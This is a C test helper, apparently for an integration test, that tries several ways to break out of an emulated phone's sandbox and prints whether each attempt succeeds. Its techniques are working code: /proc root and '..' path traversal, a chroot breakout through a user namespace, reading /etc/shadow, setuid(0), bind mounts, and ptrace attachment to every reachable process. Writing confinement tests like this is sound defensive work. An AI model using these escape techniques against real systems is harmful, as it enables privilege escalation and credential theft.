/* What a pushed executable tries, to leave the emulated phone's sandbox (tests/integration/test_confinement.py).
 *
 *   escape SECRET_PATH MARKER
 *
 * SECRET_PATH is a world-readable file of this machine, outside the sandbox, holding MARKER. Every
 * attempt prints one line: "ESCAPED <how>" when it read the marker or gained a privilege, else
 * "refused <how>: <reason>". Attaching to a process with ptrace prints "attached <pid> <cmdline>":
 * the test checks those are the caller's own processes. Built static by the test.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *marker;

static void try_read(const char *how, const char *path) {
    char buffer[256] = {0};
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        printf("refused %s: %s\n", how, strerror(errno));
        return;
    }
    ssize_t n = read(fd, buffer, sizeof buffer - 1);
    close(fd);
    if (n > 0 && strstr(buffer, marker)) printf("ESCAPED %s\n", how);
    else printf("refused %s: no marker\n", how);
}

static void try_paths(const char *secret) {
    char path[4096];
    try_read("absolute path", secret);
    snprintf(path, sizeof path, "/proc/self/root%s", secret);
    try_read("/proc/self/root", path);
    snprintf(path, sizeof path, "/proc/1/root%s", secret);
    try_read("/proc/1/root", path);
    snprintf(path, sizeof path, "../../../../../../../../..%s", secret);
    try_read("relative ..", path);
}

static void try_chroot_breakout(const char *secret) {
    /* the classic: a user namespace gives CAP_SYS_CHROOT in it; chroot deeper, then climb out */
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        printf("refused user namespace: %s\n", strerror(errno));
        return;
    }
    mkdir("/data/local/tmp/jail-in-jail", 0700);
    if (chroot("/data/local/tmp/jail-in-jail") != 0) {
        printf("refused chroot: %s\n", strerror(errno));
        return;
    }
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    try_read("chroot breakout", secret);
    if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0 && mount("proc", "/proc", "proc", 0, NULL) == 0)
        try_read("fresh proc root", "/proc/1/root/etc/shadow");
}

static void try_privileges(void) {
    if (setuid(0) == 0) printf("ESCAPED setuid(0)\n");
    else printf("refused setuid(0): %s\n", strerror(errno));
    if (mount("/", "/data/local/tmp", NULL, MS_BIND, NULL) == 0) printf("ESCAPED bind mount\n");
    else printf("refused bind mount: %s\n", strerror(errno));
}

static void try_ptrace(void) {
    for (pid_t pid = 1; pid < 65536; pid++) {
        if (pid == getpid() || kill(pid, 0) != 0) continue;
        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) {
            printf("refused ptrace %d: %s\n", pid, strerror(errno));
            continue;
        }
        waitpid(pid, NULL, __WALL);
        char path[64], cmdline[512] = {0};
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        ssize_t n = fd >= 0 ? read(fd, cmdline, sizeof cmdline - 1) : 0;
        for (ssize_t i = 0; i < n; i++) if (cmdline[i] == 0) cmdline[i] = ' ';
        if (fd >= 0) close(fd);
        printf("attached %d %s\n", pid, cmdline);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: escape SECRET_PATH MARKER\n");
        return 2;
    }
    marker = argv[2];
    setvbuf(stdout, NULL, _IONBF, 0);
    try_paths(argv[1]);
    try_privileges();
    try_ptrace();
    pid_t child = fork();
    if (child == 0) {
        try_chroot_breakout(argv[1]);
        _exit(0);
    }
    waitpid(child, NULL, 0);
    return 0;
}
